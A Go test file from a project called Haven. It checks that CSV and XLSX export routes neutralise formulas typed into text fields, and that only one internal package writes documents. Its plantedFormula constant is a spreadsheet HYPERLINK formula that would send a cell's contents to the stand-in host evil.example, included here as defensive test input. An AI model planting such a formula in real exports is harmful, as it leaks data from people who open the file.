package web_test

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"haven/internal/document/doctest"
	"haven/internal/store"
	"haven/internal/store/storetest"
	"haven/internal/web"
)

// plantedFormula is what a hostile person types into a text field that will
// end up in an export: opened as it is, a spreadsheet would make it a live link
// that sends the next cell to someone else's site.
const plantedFormula = `=HYPERLINK("https://evil.example/?d="&B2,"Open")`

// exportCase plants plantedFormula in a text field that the export at its
// route carries, and returns the export's body. Each CSV or XLSX route gets
// one here.
type exportCase func(t *testing.T, db *store.DB) []byte

// exportCases is every CSV and XLSX export route, with how to plant a formula
// in it. Haven has none yet: the evaluation downloads (issue 17) add theirs.
var exportCases = map[string]exportCase{}

// Every CSV and XLSX route writes a formula typed into a text field as text:
// with a quote in front, never at the start of a cell. A route that is not in
// exportCases fails this test, so no export escapes it.
func TestEveryExportRouteNeutralisesAPlantedFormula(t *testing.T) {
	s, err := web.NewServer(web.Options{Store: storetest.SQLite(t)})
	if err != nil {
		t.Fatal(err)
	}
	var routes []string
	for pattern := range s.Routes() {
		path := strings.SplitN(pattern, " ", 2)[1]
		if strings.HasSuffix(path, ".csv") || strings.HasSuffix(path, ".xlsx") || strings.Contains(path, "{format}") {
			routes = append(routes, pattern)
			if exportCases[pattern] == nil {
				t.Errorf("%s is an export with no case in exportCases: plant %q in a text field it carries and check it comes out neutralised", pattern, plantedFormula)
			}
		}
	}
	if len(routes) == 0 {
		return // no export yet, so no database to start
	}
	storetest.ForEach(t, func(t *testing.T, db *store.DB) {
		for _, pattern := range routes {
			c := exportCases[pattern]
			if c == nil {
				continue
			}
			t.Run(pattern, func(t *testing.T) {
				cells := exportCells(t, c(t, db))
				found := false
				for _, cell := range cells {
					if strings.HasPrefix(cell, "=") {
						t.Errorf("a cell starts with a formula sign: %q", cell)
					}
					found = found || cell == "'"+plantedFormula
				}
				if !found && !exportsWithoutText[pattern] {
					t.Errorf("the planted text is not in the export, neutralised")
				}
			})
		}
	})
}

// exportCells reads every cell of a CSV or XLSX body.
func exportCells(t *testing.T, body []byte) []string {
	t.Helper()
	var cells []string
	if bytes.HasPrefix(body, []byte("PK")) {
		_, rows, err := doctest.ReadXLSX(body)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, c := range row {
				if c.Formula != "" {
					t.Errorf("a cell holds the formula %q", c.Formula)
				}
				cells = append(cells, c.Value)
			}
		}
		return cells
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range records {
		cells = append(cells, r...)
	}
	return cells
}

// Every PDF, CSV and XLSX Haven writes goes through internal/document, which
// holds the embedded font and the formula neutraliser: no other code builds a
// CSV writer, an XLSX workbook or a PDF, or names their content types.
func TestDocumentsAreWrittenOnlyByPackageDocument(t *testing.T) {
	root := filepath.Join("..", "..")
	banned := []string{"csv.NewWriter", "excelize.", "fpdf.", `"%PDF`, "application/pdf", "text/csv", "spreadsheetml", "application/vnd.ms-excel"}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			switch d.Name() {
			case "upload": // it recognises uploaded files by their content and writes none
				return filepath.SkipDir
			case "node_modules", ".git", "testdata", "document":
				if d.Name() != "document" || filepath.Base(filepath.Dir(path)) == "internal" {
					return filepath.SkipDir
				}
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		src, err := os.ReadFile(path) // #nosec G304 -- a file of this repository, found by walking it
		if err != nil {
			return err
		}
		for _, b := range banned {
			if bytes.Contains(src, []byte(b)) {
				t.Errorf("%s uses %s: write documents through internal/document", path, b)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
